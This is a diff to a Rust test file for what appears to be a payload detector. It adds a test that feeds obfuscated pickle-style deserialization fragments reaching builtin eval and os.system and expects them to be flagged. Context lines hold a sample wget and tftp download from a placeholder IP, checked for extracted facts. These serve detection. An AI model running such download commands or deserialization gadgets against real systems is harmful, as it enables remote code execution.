@@ -25,6 +25,14 @@ fn what_is_wrapped_several_times_is_found_and_said_so() {
 }
 
 #[test]
+fn a_word_over_two_lines_is_found_though_one_of_them_is_wrapped() {
+    for said in [&b"x\nc%5f_builtin__\neval\n\ny"[..], b"x\nc__builtin__\n%65val\n\ny", b"x\n\\x63os\nsystem\ny"] {
+        let sight = look(said);
+        assert!(sight.marks.shapes.contains_key(&Shape::Deserialization), "{}: {sight:?}", String::from_utf8_lossy(said));
+    }
+}
+
+#[test]
 fn facts_name_file_and_place_and_tool() {
     let sight = look(b"curl/8.5.0 ; wget http://198.51.100.9/a; tftp -g -r b 198.51.100.9");
     assert_eq!(sight.facts["download"], "http://198.51.100.9/a tftp://198.51.100.9/b");
